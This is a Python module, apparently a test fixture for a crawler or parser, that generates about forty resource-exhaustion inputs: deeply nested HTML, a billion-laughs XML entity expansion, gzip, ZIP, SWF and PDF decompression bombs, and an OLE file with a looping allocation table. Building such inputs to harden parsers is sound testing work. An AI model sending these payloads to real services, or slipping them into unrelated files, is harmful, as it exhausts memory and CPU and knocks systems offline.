"""Documents made to hurt: a few hundred kilobytes to a few megabytes that cost a naive reader gigabytes or minutes.

BOMBS: name → (media type, a function that makes the body). Made when asked for, so that importing costs nothing.
"""

import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable

MEGABYTE = 1 << 20
SIZE = 2 * MEGABYTE


def repeated(text: str, size: int = SIZE) -> bytes:
    return (text * (size // len(text) + 1))[:size].encode()


def numbered(pattern: str, count: int) -> bytes:
    return "".join(pattern % number for number in range(count)).encode()


def pdf_of_object_streams(count: int, expanded: int) -> bytes:
    packed = zlib.compress(bytes(expanded), 9)
    stream = (
        b"1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream\nendobj\n"
    )
    return b"%PDF-1.5\n" + stream * count


def zip_of(entries: int, expanded: int, name: str = "word/_rels/%d.rels") -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(entries):
            archive.writestr(name % number, bytes(expanded))
    return body.getvalue()


def zip_of_relationships() -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("word/_rels/document.xml.rels", repeated("<Relationship a", 40 * MEGABYTE))
    return body.getvalue()


def zip_with_many_entries() -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        for number in range(20_000):
            archive.writestr(f"_rels/{number}.rels", b"")
    return body.getvalue()


def flash(body: bytes, compressed: bool = True) -> bytes:
    length = struct.pack("<I", 8 + len(body))
    return b"CWS\x08" + length + zlib.compress(body, 9) if compressed else b"FWS\x08" + length + body


def flash_lzma(expanded: int, dictionary: int) -> bytes:
    alone = lzma.compress(bytes(expanded), lzma.FORMAT_ALONE, preset=0)
    packed = alone[13:]
    head = (
        b"ZWS\x0d" + struct.pack("<II", 0xFFFFFFF0, len(packed)) + alone[:1] + struct.pack("<I", dictionary)
    )
    return head + packed


def ole_with_a_loop() -> bytes:
    """The allocation table's sectors all point to themselves, the directory included."""
    table = struct.pack("<128I", *range(128))
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(10)
    )
    header += struct.pack("<IIII", 109, 0, 0, 4096) + struct.pack("<IIII", 0, 1 << 31, 0, 1 << 31)
    return header + struct.pack("<109I", *[0] * 109) + table * (SIZE // 512)


def billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
    return f"<?xml version='1.0'?><!DOCTYPE rss [{entities}]><rss><link>&a12;</link></rss>".encode()


HTML, XML, PDF = "text/html", "application/xml", "application/pdf"
ZIP, SWF, DOC = "application/zip", "application/x-shockwave-flash", "application/msword"

BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nested div": (HTML, lambda: repeated("<div>")),
    "nested formatting": (HTML, lambda: repeated("<a><b><i><u><p>")),
    "nested tables": (HTML, lambda: repeated("<table><tr><td>")),
    "foster parenting": (HTML, lambda: repeated("<table><a href=x>")),
    "adoption agency": (HTML, lambda: repeated("<b><p></b>")),
    "nested templates": (HTML, lambda: repeated("<template>")),
    "nested svg": (HTML, lambda: repeated("<svg><foreignObject>")),
    "nested select": (HTML, lambda: repeated("<select><option>")),
    "formatting that differs": (HTML, lambda: numbered("<b a=%d>", 200_000)),
    "200,000 attributes": (HTML, lambda: b"<a " + numbered("a%d ", 200_000) + b"href=x>"),
    "50,000 body tags with attributes": (HTML, lambda: numbered("<body a%d>", 50_000)),
    "50,000 html tags with attributes": (HTML, lambda: numbered("<html a%d>", 50_000)),
    "unclosed comment": (HTML, lambda: b"<!--" + repeated("--!x")),
    "unclosed script": (HTML, lambda: b"<script>" + repeated("<!--<script")),
    "ampersands": (HTML, lambda: repeated("&ampx&")),
    "one long href": (HTML, lambda: b"<a href='" + repeated("../") + b"'>"),
    "many long hrefs": (HTML, lambda: b"".join(b"<a href='%d/%s'>" % (n, b"../" * 500) for n in range(1500))),
    "400,000 links": (HTML, lambda: numbered("<a href=%d>", 400_000)),
    "long refresh": (HTML, lambda: b"<meta http-equiv=refresh content='" + repeated("0 ") + b"'>"),
    "nested xhtml": ("application/xhtml+xml", lambda: b"<html>" + repeated("<div>")),
    "billion laughs": (XML, billion_laughs),
    "unclosed quotes in XML": (XML, lambda: b"<?xml?>" + repeated('<a href="')),
    "XML attributes": (XML, lambda: b"<?xml?><a href " + repeated("a ") + b">"),
    "gzip of zeros": ("application/gzip", lambda: gzip.compress(bytes(60 * MEGABYTE))),
    "gzip of XML": ("application/gzip", lambda: gzip.compress(repeated("<loc>", 60 * MEGABYTE))),
    "PDF object stream of 500 MB": (PDF, lambda: pdf_of_object_streams(10, 50 * MEGABYTE)),
    "PDF of 20,000 object streams": (PDF, lambda: pdf_of_object_streams(20_000, 1000)),
    "PDF of unclosed strings": (PDF, lambda: b"%PDF-1.4" + repeated("/URI (")),
    "PDF of escapes": (PDF, lambda: b"%PDF-1.4/URI (" + repeated("\\(")),
    "ZIP of zeros": (ZIP, lambda: zip_of(4, 15 * MEGABYTE)),
    "ZIP of relationships": (ZIP, zip_of_relationships),
    "ZIP of 20,000 entries": (ZIP, zip_with_many_entries),
    "SWF of zeros": (SWF, lambda: flash(bytes(60 * MEGABYTE))),
    "SWF of empty tags": (SWF, lambda: flash(b"\0" * 5 + b"\x40\0" * (2 * MEGABYTE))),
    "SWF with a huge dictionary": (SWF, lambda: flash_lzma(60 * MEGABYTE, 0xFFFFFFFF)),
    "SWF of nested sprites": (SWF, lambda: flash(bytes(5) + struct.pack("<HI", 39 << 6 | 63, 0) * 300_000)),
    "OLE with a loop": (DOC, ole_with_a_loop),
    "RTF of fields": ("application/rtf", lambda: b"{\\rtf1" + repeated("\\fldinst ")),
    "CSS of strings": ("text/css", lambda: repeated('url("\\')),
    "script of quotes": ("text/javascript", lambda: repeated('"\\')),
    "text of URLs": ("text/plain", lambda: repeated("http://")),
}
